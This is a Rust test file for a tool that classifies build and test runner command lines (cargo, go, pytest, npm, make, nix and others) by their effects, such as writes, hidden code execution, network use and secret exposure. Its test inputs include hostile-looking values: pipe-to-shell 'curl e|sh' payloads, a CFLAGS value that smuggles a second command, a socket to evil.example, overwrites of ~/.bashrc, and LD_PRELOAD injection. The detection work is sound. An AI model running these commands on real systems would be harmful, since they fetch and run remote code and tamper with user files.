//! Table tests of the runner grammars: argv → effects, definition files, or an error.
#![allow(clippy::unwrap_used)]

use super::super::runner_test_support::{
    argv, call, not_a_runner, outside as err, runs_hidden, unknown, writes,
};
use super::*;
use crate::analysis::effects::WriteHow;

#[test]
fn cargo_subcommands_and_their_options() {
    let c = call(&["cargo", "test", "--lib", "add"]);
    assert_eq!((c.tool, c.family), ("cargo", Family::Cargo));
    assert!(c.does.contains("tests"));
    assert!(c.effects.is_empty());
    assert!(call(&["cargo", "t", "-p", "x", "--", "--nocapture"])
        .effects
        .is_empty());
    assert!(call(&["cargo", "-q", "build", "--release", "-j", "4"])
        .effects
        .is_empty());
    assert!(call(&["cargo", "clippy", "--fix", "--allow-dirty"])
        .effects
        .is_empty());
    assert!(
        call(&["cargo", "clippy", "--all-targets", "--", "-D", "warnings"])
            .effects
            .is_empty()
    );
    assert!(call(&["cargo", "fmt", "--all", "--", "--check"])
        .effects
        .is_empty());
    // Values that are paths or programs.
    assert_eq!(
        writes(&call(&["cargo", "test", "--target-dir", "/home/dev"])),
        ["/home/dev"]
    );
    assert_eq!(
        writes(&call(&["cargo", "build", "--target-dir=t2"])),
        ["t2"]
    );
    assert_eq!(
        writes(&call(&["cargo", "test", "--", "--logfile", "/x/log"])),
        ["/x/log"]
    );
    assert!(runs_hidden(&call(&["cargo", "--config", "k=v", "test"])));
    assert!(runs_hidden(&call(&["cargo", "test", "--config=k=v"])));
    assert!(runs_hidden(&call(&[
        "cargo",
        "build",
        "--target",
        "./evil.json"
    ])));
    assert!(call(&["cargo", "doc", "--open"]).effects.is_empty());
    assert!(unknown(&call(&["cargo", "-Z", "unstable-options", "test"])));
    assert_eq!(
        call(&["cargo", "test", "--manifest-path", "/tmp/x/Cargo.toml"]).defined_by,
        ["/tmp/x/Cargo.toml"]
    );
    // clippy's and rustfmt's own arguments after `--`.
    assert!(unknown(&call(&[
        "cargo",
        "clippy",
        "--",
        "-C",
        "linker=/tmp/x"
    ])));
    assert!(unknown(&call(&[
        "cargo",
        "fmt",
        "--",
        "--config-path",
        "/tmp/x"
    ])));
    // Outside the grammar.
    assert!(matches!(
        err(&["cargo", "test", "--frobnicate"]),
        GrammarError::UnknownOption(_)
    ));
    assert!(matches!(
        err(&["cargo", "build", "extra"]),
        GrammarError::ExtraOperand(_)
    ));
    assert!(matches!(
        err(&["cargo", "test", "--target-dir"]),
        GrammarError::MissingValue(_)
    ));
    // Not runners: other catalogues judge them.
    not_a_runner(&["cargo", "publish"]);
    not_a_runner(&["cargo", "install", "ripgrep"]);
    not_a_runner(&["cargo"]);
    // A lockfile fetch.
    assert!(call(&["cargo", "fetch"]).lock_install);
}

#[test]
fn go_flags_before_and_after_packages() {
    let c = call(&["go", "test", "./...", "-run", "TestX", "-v", "-count=1"]);
    assert!(c.effects.is_empty(), "{:?}", c.effects);
    assert_eq!(
        writes(&call(&[
            "go",
            "test",
            "-coverprofile=/home/dev/.bashrc",
            "./..."
        ])),
        ["/home/dev/.bashrc"]
    );
    assert_eq!(
        writes(&call(&[
            "go",
            "test",
            "-o",
            "/home/dev/.local/bin/ls",
            "./..."
        ])),
        ["/home/dev/.local/bin/ls"]
    );
    assert_eq!(
        writes(&call(&["go", "test", "--cpuprofile", "cpu.out"])),
        ["cpu.out"]
    );
    assert!(runs_hidden(&call(&[
        "go",
        "vet",
        "-vettool=./t.sh",
        "./..."
    ])));
    assert!(runs_hidden(&call(&[
        "go", "test", "-exec", "sudo", "./..."
    ])));
    assert!(runs_hidden(&call(&["go", "build", "-toolexec", "x", "."])));
    assert_eq!(
        call(&["go", "test", "-modfile=/tmp/evil.mod", "./..."]).defined_by,
        ["/tmp/evil.mod"]
    );
    assert!(c.defined_by.is_empty());
    assert!(call(&["go", "build", "-ldflags", "-s -w -X main.v=1", "."])
        .effects
        .is_empty());
    assert!(unknown(&call(&[
        "go",
        "build",
        "-ldflags=-extld=/tmp/x",
        "."
    ])));
    assert!(unknown(&call(&["go", "build", "-gcflags=all=-N", "."])));
    // A module fetched by version runs code from the network.
    assert!(call(&["go", "run", "example.com/x@latest"])
        .effects
        .iter()
        .any(|e| matches!(
            e,
            Effect::Run {
                code: Code::Network { .. }
            }
        )));
    // `go run`: words after the package are the program's own.
    assert!(call(&["go", "run", ".", "-o", "x"]).effects.is_empty());
    // Code named by a path that may lie outside the workspace is what defines the run:
    // the command floor judges where it is.
    let c = call(&["go", "run", "/tmp/evil.go", "/etc/passwd"]);
    assert_eq!(c.defined_by, vec!["/tmp/evil.go".to_string()]);
    let c = call(&["go", "test", "../other/..."]);
    assert_eq!(c.dirs, vec!["../other".to_string()]);
    let c = call(&["go", "test", "./..."]);
    assert!(c.dirs.is_empty() && c.defined_by.is_empty());
    // -args: the test binary's own profile flags write.
    assert!(unknown(&call(&[
        "go",
        "test",
        ".",
        "-args",
        "-test.coverprofile=x"
    ])));
    assert!(call(&["go", "test", ".", "-args", "-myflag"])
        .effects
        .is_empty());
    assert!(matches!(
        err(&["go", "test", "-frob", "./..."]),
        GrammarError::UnknownOption(_)
    ));
    not_a_runner(&["go", "install", "x@latest"]);
    not_a_runner(&["go", "get", "x"]);
}

#[test]
fn pytest_options_as_argparse_reads_them() {
    let c = call(&[
        "pytest",
        "-xvs",
        "tests/test_foo.py::test_a",
        "-k",
        "not slow",
    ]);
    assert!(c.effects.is_empty(), "{:?}", c.effects);
    assert_eq!(c.test_paths, ["tests/test_foo.py"]);
    // Abbreviations of long options (pytest before 6.0 accepted them).
    assert_eq!(
        writes(&call(&["pytest", "--junitx=/h/.bashrc"])),
        ["/h/.bashrc"]
    );
    assert_eq!(
        writes(&call(&["pytest", "--junitxml", "out.xml"])),
        ["out.xml"]
    );
    assert_eq!(writes(&call(&["pytest", "-o", "cache_dir=/h/x"])), ["/h/x"]);
    assert_eq!(
        writes(&call(&["pytest", "--override-ini=log_file=l"])),
        ["l"]
    );
    assert!(call(&["pytest", "-o", "console_output_style=classic"])
        .effects
        .is_empty());
    assert!(unknown(&call(&["pytest", "-o", "addopts=-p evil"])));
    // Import paths: the project's own tree, or code from elsewhere.
    assert!(call(&["pytest", "-o", "pythonpath=src tests/helpers"])
        .effects
        .is_empty());
    for v in [
        "pythonpath=/tmp",
        "pythonpath=src ~/Downloads",
        "pythonpath=../x",
    ] {
        let c = call(&["pytest", "-o", v, "-p", "evil"]);
        assert!(runs_hidden(&c) && !unknown(&c), "{v}");
        let c = call(&["pytest", "-o", v]);
        assert!(runs_hidden(&c), "{v}");
    }
    assert_eq!(
        writes(&call(&["pytest", "--cov=pkg", "--cov-report=html:/tmp/h"])),
        ["/tmp/h"]
    );
    assert!(call(&["pytest", "--cov=pkg", "--cov-report=term-missing"])
        .effects
        .is_empty());
    // --basetemp empties the directory.
    assert_eq!(
        call(&["pytest", "--basetemp=/home/dev"]).effects,
        vec![Effect::Delete {
            path: "/home/dev".into(),
            recursive: true
        }]
    );
    assert!(matches!(
        call(&["pytest", "--basete", "x"]).effects[0],
        Effect::Delete { .. }
    ));
    // Plugins load code; `no:` disables one.
    assert!(runs_hidden(&call(&["pytest", "-p", "evil"])));
    assert!(runs_hidden(&call(&["pytest", "-pevil"])));
    assert!(call(&["pytest", "-p", "no:cacheprovider"])
        .effects
        .is_empty());
    assert_eq!(
        call(&["pytest", "-c", "/tmp/evil.ini"]).defined_by,
        ["/tmp/evil.ini"]
    );
    assert_eq!(call(&["pytest", "--rootdir=/tmp/r"]).dirs, ["/tmp/r"]);
    assert!(unknown(&call(&["pytest", "@args.txt"])));
    assert!(unknown(&call(&["pytest", "--pastebin=all"])));
    // pytest-xdist: workers on another host run the tests there, the source copied to it;
    // local workers (`-n`, `--tx popen`) are the same Python.
    for spec in [
        "ssh=host",
        "ssh=-p 5000 user@host//python=python3",
        "4*socket=evil.example:8888",
        "popen//python=/tmp/py",
    ] {
        let c = call(&["pytest", "-d", "--tx", spec, "--rsyncdir", "src"]);
        assert!(runs_hidden(&c) && !unknown(&c), "{spec}: {:?}", c.effects);
    }
    assert!(call(&["pytest", "--tx", "socket=evil.example:8888"])
        .effects
        .iter()
        .any(|e| matches!(e, Effect::Net { host: Some(h), .. } if h == "evil.example")));
    assert!(call(&["pytest", "-n", "auto"]).effects.is_empty());
    assert!(call(&["pytest", "--tx", "3*popen//id=w"])
        .effects
        .is_empty());
    assert!(unknown(&call(&["pytest", "--tx", "vagrant_ssh=box"])));
    assert!(matches!(
        err(&["pytest", "--frobnicate"]),
        GrammarError::UnknownOption(_)
    ));
    // python -m pytest / unittest: `at` is where the module's own words start, and the
    // first of them is read like every other (it once played the program and was lost).
    let (v, d) = argv(&["python3", "-m", "pytest", "--junitxml=/x", "-q"]);
    let c = python_module("pytest", &v, &d, 3).unwrap().unwrap();
    assert_eq!(
        (writes(&c), c.module.as_deref()),
        (vec!["/x".to_string()], Some("pytest"))
    );
    let (v, d) = argv(&["python3", "-m", "pytest", "/tmp/evil"]);
    assert_eq!(
        python_module("pytest", &v, &d, 3)
            .unwrap()
            .unwrap()
            .test_paths,
        ["/tmp/evil"]
    );
    let (v, d) = argv(&["python", "-m", "unittest", "discover", "-s", "tests", "-v"]);
    let c = python_module("unittest", &v, &d, 3).unwrap().unwrap();
    assert!(c.effects.is_empty());
    assert_eq!(
        (c.test_paths, c.include_dirs),
        (vec!["tests".to_string()], vec!["tests".to_string()])
    );
    let (v, d) = argv(&["python", "-m", "unittest", "discover", "a", "t*.py", "top"]);
    let c = python_module("unittest", &v, &d, 3).unwrap().unwrap();
    assert_eq!(
        (c.test_paths, c.include_dirs),
        (vec!["a".to_string()], vec!["top".to_string()])
    );
    let (v, d) = argv(&["python", "-m", "unittest", "pkg.test_x", "tests/test_y.py"]);
    let c = python_module("unittest", &v, &d, 3).unwrap().unwrap();
    assert_eq!(c.test_paths, ["tests/test_y.py"]);
    let (v, d) = argv(&["python", "-m", "unittest", "--frobnicate"]);
    assert!(python_module("unittest", &v, &d, 3).unwrap().is_err());
    // pytest --pyargs: a dotted name is a module, a path is still a path.
    assert_eq!(
        call(&["pytest", "--pyargs", "pkg.tests", "/tmp/evil"]).test_paths,
        ["/tmp/evil"]
    );
    let (v, d) = argv(&["python", "-m", "tox", "-c", "/tmp/t.ini"]);
    assert_eq!(
        python_module("tox", &v, &d, 3).unwrap().unwrap().defined_by,
        ["/tmp/t.ini"]
    );
    // make -f - reads the makefile from standard input: code the floor cannot see.
    assert!(runs_hidden(&call(&["make", "-f", "-"])));
    assert!(runs_hidden(&call(&["make", "--makefile=-", "test"])));
    assert!(!runs_hidden(&call(&["make", "-f", "Makefile", "test"])));
    assert!(python_module("json.tool", &v, &d, 3).is_none());
}

#[test]
fn package_manager_scripts_and_their_options() {
    let c = call(&["npm", "test"]);
    assert_eq!(c.script, Some((Manager::Npm, "test".to_string())));
    assert_eq!(
        call(&["npm", "run", "build", "--if-present"]).script,
        Some((Manager::Npm, "build".to_string()))
    );
    assert!(call(&["npm", "run", "build", "--", "--watch"])
        .effects
        .is_empty());
    // The words each manager appends to the script's command line: npm's operands after
    // the name and what follows `--` (not the `--`), its options its own; pnpm's every word
    // after the name as it is; yarn's and bun's with and without a `--`.
    let words = |w: &[&str]| call(w).script_args;
    assert!(words(&["npm", "test"]).is_empty());
    assert_eq!(
        words(&[
            "npm",
            "run",
            "build",
            "src",
            "--if-present",
            "--",
            "--watch",
            "-c",
            "x"
        ]),
        [["src", "--watch", "-c", "x"]]
    );
    assert_eq!(words(&["npm", "test", "--", "--ci"]), [["--ci"]]);
    assert_eq!(
        words(&["pnpm", "run", "--silent", "lint", "--fix", "--", "-c", "x"]),
        [["--fix", "--", "-c", "x"]]
    );
    assert_eq!(words(&["pnpm", "test", "--coverage"]), [["--coverage"]]);
    assert_eq!(
        words(&["yarn", "test", "--", "--ci"]),
        [vec!["--ci"], vec!["--", "--ci"]]
    );
    assert_eq!(words(&["bun", "run", "dev", "--host"]), [["--host"]]);
    // The manager's own options before the name are still its grammar's.
    assert_eq!(
        call(&["pnpm", "--dir", "sub", "run", "lint", "--fix"]).dirs,
        ["sub"]
    );
    assert!(runs_hidden(&call(&[
        "npm",
        "test",
        "--node-options=--import=data:x"
    ])));
    assert!(runs_hidden(&call(&[
        "npm",
        "run",
        "x",
        "--script-shell",
        "/tmp/sh"
    ])));
    assert_eq!(
        call(&["npm", "--prefix", "/tmp/e", "test"]).dirs,
        ["/tmp/e"]
    );
    // npm's own printer of the environment.
    assert!(call(&["npm", "run", "env"])
        .effects
        .iter()
        .any(|e| matches!(e, Effect::Secret { .. })));
    // Yarn 1's, likewise; another script name is no printer.
    assert!(call(&["yarn", "run", "env"])
        .effects
        .iter()
        .any(|e| matches!(e, Effect::Secret { .. })));
    assert!(!call(&["yarn", "run", "test"])
        .effects
        .iter()
        .any(|e| matches!(e, Effect::Secret { .. })));
    // nopt would resolve an abbreviation against every config key: only exact names.
    assert!(matches!(
        err(&["npm", "test", "--node-opt=x"]),
        GrammarError::UnknownOption(_)
    ));
    assert!(matches!(
        err(&["npm", "test", "--registry=https://x"]),
        GrammarError::UnknownOption(_)
    ));
    assert!(call(&["npm", "ci"]).lock_install);
    assert!(matches!(
        err(&["npm", "ci", "--registry=https://x"]),
        GrammarError::UnknownOption(_)
    ));
    not_a_runner(&["npm", "install", "left-pad"]);
    not_a_runner(&["npm", "list"]);
    assert_eq!(
        call(&["pnpm", "--dir", "/tmp/evil", "test"]).dirs,
        ["/tmp/evil"]
    );
    let lint = call(&["pnpm", "lint"]);
    assert_eq!(lint.script, Some((Manager::Pnpm, "lint".to_string())));
    assert!(lint.implicit_script);
    assert!(!call(&["pnpm", "run", "lint"]).implicit_script);
    assert!(call(&["npm", "run"]).script.is_none());
    assert_eq!(
        call(&["yarn", "run", "build"]).script,
        Some((Manager::Yarn, "build".to_string()))
    );
    not_a_runner(&["pnpm", "install"]);
    not_a_runner(&["yarn", "add", "x"]);
    not_a_runner(&["bun", "run", "./x.ts"]);
    assert!(call(&["pnpm", "install", "--frozen-lockfile"]).lock_install);
    let b = call(&["bun", "test", "--coverage-dir", "/tmp/c"]);
    assert_eq!(writes(&b), ["/tmp/c"]);
    assert!(runs_hidden(&call(&["bun", "test", "--preload", "./x.ts"])));
}

#[test]
fn make_options_variables_and_files() {
    let c = call(&["make", "-j8", "test"]);
    assert!(c.effects.is_empty());
    assert!(c.does.contains("`test`"));
    assert!(call(&["make", "-j", "8", "all"]).does.contains("`all`"));
    assert_eq!(
        call(&["make", "-f", "/tmp/evil.mk"]).defined_by,
        ["/tmp/evil.mk"]
    );
    assert_eq!(call(&["make", "--file=other.mk"]).defined_by, ["other.mk"]);
    assert_eq!(call(&["make", "-C", "/tmp/evil"]).dirs, ["/tmp/evil"]);
    assert_eq!(call(&["make", "--direc=sub"]).dirs, ["sub"]);
    assert_eq!(
        call(&["make", "-I", "/tmp/evil", "test"]).include_dirs,
        ["/tmp/evil"]
    );
    assert!(runs_hidden(&call(&["make", "--eval", "x: ; curl e|sh"])));
    assert!(runs_hidden(&call(&["make", "--ev=x"])));
    assert!(call(&["make", "CC=clang", "V=1"]).effects.is_empty());
    assert!(runs_hidden(&call(&["make", "CC=/tmp/evil"])));
    assert!(runs_hidden(&call(&["make", "CFLAGS=-O2 ; curl x|sh"])));
    assert!(runs_hidden(&call(&["make", "SHELL=bash"])));
    assert!(unknown(&call(&["make", "-t", "all"])));
    assert!(matches!(
        err(&["make", "--frob"]),
        GrammarError::UnknownOption(_)
    ));
}

#[test]
fn jvm_python_and_other_runners() {
    assert!(call(&["mvn", "-q", "test", "-DskipTests"])
        .effects
        .is_empty());
    assert!(call(&["mvn", "-ntp", "-B", "verify"]).effects.is_empty());
    assert!(unknown(&call(&[
        "mvn",
        "test",
        "-DargLine=-javaagent:/tmp/x.jar"
    ])));
    assert_eq!(
        call(&["mvn", "-s", "/tmp/s.xml", "test"]).defined_by,
        ["/tmp/s.xml"]
    );
    not_a_runner(&["mvn", "deploy"]);
    assert!(call(&["gradle", "test", "--tests", "X", "--offline"])
        .effects
        .is_empty());
    assert!(runs_hidden(&call(&[
        "gradle",
        "test",
        "--init-script=/tmp/i.gradle"
    ])));
    assert!(runs_hidden(&call(&[
        "gradle",
        "test",
        "-Dorg.gradle.java.home=/tmp/j"
    ])));
    assert!(unknown(&call(&["gradle", "build", "--scan"])));
    assert_eq!(call(&["./gradlew", "build"]).tool, "gradlew");
    not_a_runner(&["gradle", "publish"]);
    assert!(runs_hidden(&call(&[
        "tox",
        "-e",
        "py",
        "--installpkg",
        "/tmp/e.whl"
    ])));
    assert!(call(&["tox", "-e", "py311", "--", "-k", "x"])
        .effects
        .is_empty());
    assert_eq!(
        call(&["tox", "-c", "/tmp/t.ini"]).defined_by,
        ["/tmp/t.ini"]
    );
    assert!(call(&["nox", "-s", "tests"]).effects.is_empty());
    assert_eq!(call(&["nox", "-f", "/tmp/n.py"]).defined_by, ["/tmp/n.py"]);
    assert!(call(&["just", "test"]).does.contains("`test`"));
    // The justfile and the working directory named are what define and where it runs.
    let c = call(&["just", "--justfile", "/tmp/j", "x"]);
    assert_eq!(c.defined_by, vec!["/tmp/j".to_string()]);
    let c = call(&["just", "-d", "../other", "x"]);
    assert_eq!(c.dirs, vec!["../other".to_string()]);
    assert!(unknown(&call(&["just", "--justfile", "-", "x"])));
    assert!(call(&["deno", "test", "src/"]).effects.is_empty());
    assert!(matches!(
        err(&["deno", "test", "--allow-all"]),
        GrammarError::UnknownOption(_)
    ));
}

#[test]
fn project_wrappers_hand_on_their_command() {
    let c = call(&["uv", "run", "pytest", "-x"]);
    assert_eq!((c.wrapped, c.family), (Some(2), Family::Uv));
    assert_eq!(
        call(&["uv", "run", "--frozen", "--", "python", "x.py"]).wrapped,
        Some(4)
    );
    let m = call(&["uv", "run", "-m", "pytest"]);
    assert_eq!((m.wrapped, m.module.as_deref()), (Some(3), Some("pytest")));
    assert!(runs_hidden(&call(&[
        "uv", "run", "--with", "requests", "ls"
    ])));
    assert!(runs_hidden(&call(&[
        "uv",
        "run",
        "--env-file",
        ".env",
        "x"
    ])));
    assert!(runs_hidden(&call(&[
        "uv", "run", "--python", "/tmp/py", "x"
    ])));
    assert!(call(&["uv", "run", "--python", "3.11", "ls"])
        .effects
        .is_empty());
    assert_eq!(
        call(&["uv", "run", "--directory", "/tmp/d", "x"]).dirs,
        ["/tmp/d"]
    );
    assert!(matches!(
        err(&["uv", "run", "--frobnicate", "x"]),
        GrammarError::UnknownOption(_)
    ));
    assert!(call(&["uv", "sync", "--locked"]).lock_install);
    // Plain `uv sync` locks first, as `uv run` does before every command.
    assert!(call(&["uv", "sync"]).lock_install);
    not_a_runner(&["uv", "pip", "install", "x"]);
    assert_eq!(call(&["poetry", "run", "pytest"]).wrapped, Some(2));
    assert_eq!(call(&["pipenv", "run", "--", "pytest"]).wrapped, Some(3));
    assert!(matches!(
        err(&["pdm", "run", "-v", "x"]),
        GrammarError::UnknownOption(_)
    ));
    not_a_runner(&["poetry", "add", "x"]);
    let _ = WriteHow::Replace;
}

/// `nix develop … --command CMD…` read as Nix 2.36 reads its command line: bundles of
/// short options split, an option's value taken as it is, `nix`'s own options before or
/// after `develop`; the command is every word after `-c`.
#[test]
fn nix_develop_hands_on_its_command() {
    let c = call(&["nix", "develop", "-c", "cargo", "test"]);
    assert_eq!((c.wrapped, c.family, c.tool), (Some(3), Family::Nix, "nix"));
    assert!(c.lock_install && c.effects.is_empty());
    for (words, at) in [
        (
            &["nix", "develop", "--command", "bash", "-c", "npm run build"][..],
            3,
        ),
        (
            &["nix", "-L", "develop", ".#ci", "-iLc", "x", "--", "-y"][..],
            5,
        ),
        (&["nix", "develop", ".", "-vvc", "x"][..], 4),
        // `-k` takes the next word as it is, `-c` included.
        (&["nix", "develop", "-i", "-k", "-c", "-c", "x"][..], 6),
        (
            &[
                "nix",
                "develop",
                "--unset",
                "FOO",
                "--no-write-lock-file",
                "-c",
                "x",
            ][..],
            6,
        ),
        (
            &[
                "nix",
                "--extra-experimental-features",
                "nix-command flakes",
                "--offline",
                "develop",
                "--no-update-lock-file",
                "-c",
                "x",
            ][..],
            7,
        ),
    ] {
        assert_eq!(call(words).wrapped, Some(at), "{words:?}");
    }
    // No command: an interactive shell reading its input.
    let bare = call(&["nix", "develop"]);
    assert!(bare.wrapped.is_none() && unknown(&bare));
    assert!(unknown(&call(&["nix", "develop", ".#ci"])));
    // Options that evaluate, fetch or configure other code, phases, and anything else
    // outside the grammar.
    for words in [
        &["nix", "develop", "--impure", "-c", "x"][..],
        &["nix", "--option", "sandbox", "false", "develop", "-c", "x"][..],
        &["nix", "develop", "--option", "sandbox", "false", "-c", "x"][..],
        &[
            "nix",
            "develop",
            "--override-input",
            "nixpkgs",
            "github:a/b",
            "-c",
            "x",
        ][..],
        &["nix", "develop", "--expr", "import ./x.nix", "-c", "x"][..],
        &["nix", "develop", "-f", "x.nix", "-c", "x"][..],
        &["nix", "develop", "--arg", "a", "1", "-c", "x"][..],
        &["nix", "develop", "--argstr", "a", "b", "-c", "x"][..],
        &["nix", "develop", "-I", "nixpkgs=/tmp/p", "-c", "x"][..],
        &["nix", "develop", "--override-flake", "a", "b", "-c", "x"][..],
        &["nix", "develop", "--profile", "/tmp/p", "-c", "x"][..],
        &["nix", "develop", "--redirect", "a", "/tmp/o", "-c", "x"][..],
        &["nix", "develop", "--build"][..],
        &["nix", "develop", "--phase", "check"][..],
        &["nix", "develop", "-s", "LD_PRELOAD", "/tmp/x.so", "-c", "x"][..],
        &["nix", "develop", "--set-env-var", "PATH", "/tmp", "-c", "x"][..],
        &["nix", "develop", "--commit-lock-file", "-c", "x"][..],
        &["nix", "develop", "--recreate-lock-file", "-c", "x"][..],
        &[
            "nix",
            "develop",
            "--reference-lock-file",
            "/tmp/l",
            "-c",
            "x",
        ][..],
        &["nix", "develop", "--output-lock-file", "/tmp/l", "-c", "x"][..],
        &["nix", "develop", "--inputs-from", "github:a/b", "-c", "x"][..],
        &["nix", "develop", "--accept-flake-config", "-c", "x"][..],
        &[
            "nix",
            "develop",
            "--substituters",
            "https://x.io",
            "-c",
            "x",
        ][..],
        &["nix", "develop", "--store", "/tmp/s", "-c", "x"][..],
        &["nix", "develop", "--refresh", "-c", "x"][..],
        &["nix", "develop", "-j3", "-c", "x"][..],
        &["nix", "develop", "--", "-c", "x"][..],
        // A `-c` with letters after it would hand on pieces of the bundle.
        &["nix", "develop", "-cL", "x"][..],
        &["nix", "develop", "-c"][..],
        &[
            "nix",
            "--extra-experimental-features",
            "recursive-nix",
            "develop",
            "-c",
            "x",
        ][..],
        &[
            "nix",
            "--extra-experimental-features",
            "",
            "develop",
            "-c",
            "x",
        ][..],
        // Another flake than the working directory's, a store path, an output spec.
        &["nix", "develop", "github:a/b", "-c", "x"][..],
        &["nix", "develop", "nixpkgs#hello", "-c", "x"][..],
        &["nix", "develop", "./sub", "-c", "x"][..],
        &["nix", "develop", "..", "-c", "x"][..],
        &["nix", "develop", "/tmp/flake", "-c", "x"][..],
        &["nix", "develop", "path:.", "-c", "x"][..],
        &["nix", "develop", ".?dir=sub", "-c", "x"][..],
        &["nix", "develop", ".#x^out", "-c", "x"][..],
        &["nix", "develop", ".", ".", "-c", "x"][..],
        // A run-time value among nix's own words.
        &["nix", "develop", "$X", "-c", "x"][..],
        &["nix", "develop", "-k", "$X", "-c", "x"][..],
    ] {
        err(words);
    }
    // Other nix commands are the catalogue's.
    not_a_runner(&["nix", "search", "nixpkgs", "develop"]);
    not_a_runner(&["nix", "build", ".#x"]);
    not_a_runner(&["nix", "--version"]);
}

/// The test runners cargo's plugins add run the project's tests as `cargo test` does
/// (Cargo's definition files, `.config/nextest.toml` among them), with their reports where
/// they are told; a configuration, program or subcommand outside their grammars is not
/// understood.
#[test]
fn cargo_plugin_runners() {
    for a in [
        &["cargo", "nextest", "run"][..],
        &[
            "cargo",
            "nextest",
            "r",
            "-p",
            "core",
            "--no-fail-fast",
            "parse",
        ],
        &[
            "cargo",
            "nextest",
            "run",
            "-E",
            "test(/parse/)",
            "--profile",
            "ci",
        ],
        &[
            "cargo",
            "nextest",
            "run",
            "--workspace",
            "--",
            "--exact",
            "x",
        ],
        &["cargo", "nextest", "list", "--all-features"],
        &["cargo", "llvm-cov"],
        &["cargo", "llvm-cov", "--html"],
        &[
            "cargo",
            "llvm-cov",
            "--lcov",
            "--workspace",
            "--",
            "--nocapture",
        ],
        &["cargo", "expand"],
        &["cargo", "expand", "--lib", "parser::ast"],
    ] {
        let c = call(a);
        assert_eq!((c.tool, c.family), ("cargo", Family::Cargo), "{a:?}");
        assert!(c.effects.is_empty(), "{a:?}: {:?}", c.effects);
    }
    assert!(call(&["cargo", "nextest", "run"]).does.contains("tests"));
    assert_eq!(
        writes(&call(&[
            "cargo",
            "llvm-cov",
            "--lcov",
            "--output-path",
            "/tmp/lcov.info"
        ])),
        ["/tmp/lcov.info"]
    );
    assert_eq!(
        writes(&call(&[
            "cargo",
            "llvm-cov",
            "--html",
            "--output-dir",
            "../out"
        ])),
        ["../out"]
    );
    assert_eq!(
        writes(&call(&[
            "cargo",
            "nextest",
            "run",
            "--target-dir",
            "/tmp/t"
        ])),
        ["/tmp/t"]
    );
    assert_eq!(
        writes(&call(&["cargo", "llvm-cov", "--", "--logfile", "/x/log"])),
        ["/x/log"]
    );
    assert!(runs_hidden(&call(&[
        "cargo",
        "nextest",
        "run",
        "--config",
        "target.x.runner='sh'"
    ])));
    assert!(unknown(&call(&["cargo", "llvm-cov", "-Z", "x"])));
    assert_eq!(
        call(&[
            "cargo",
            "nextest",
            "run",
            "--manifest-path",
            "/tmp/x/Cargo.toml"
        ])
        .defined_by,
        ["/tmp/x/Cargo.toml"]
    );
    for a in [
        &["cargo", "nextest", "run", "--config-file", "/tmp/n.toml"][..],
        &[
            "cargo",
            "nextest",
            "run",
            "--tool-config-file",
            "x:/tmp/n.toml",
        ],
        &["cargo", "nextest", "run", "--debugger", "gdb --args"],
        &[
            "cargo",
            "nextest",
            "run",
            "--archive-file",
            "/tmp/a.tar.zst",
        ],
        &["cargo", "nextest", "archive", "--archive-file", "a.tar.zst"],
        &["cargo", "nextest", "self", "update"],
        &["cargo", "nextest"],
        &["cargo", "llvm-cov", "clean", "--workspace"],
        &["cargo", "llvm-cov", "run"],
        &["cargo", "llvm-cov", "--include-ffi"],
        &["cargo", "expand", "-Z", "x"],
        &["cargo", "expand", "--config", "x"],
        &["cargo", "expand", "a", "b"],
        &["cargo", "expand", "--", "x"],
    ] {
        let (v, d) = argv(a);
        let r = runner(&v, &d);
        assert!(
            match &r {
                Some(Err(_)) => true,
                Some(Ok(c)) => unknown(c) || runs_hidden(c),
                None => false,
            },
            "{a:?}"
        );
    }
}
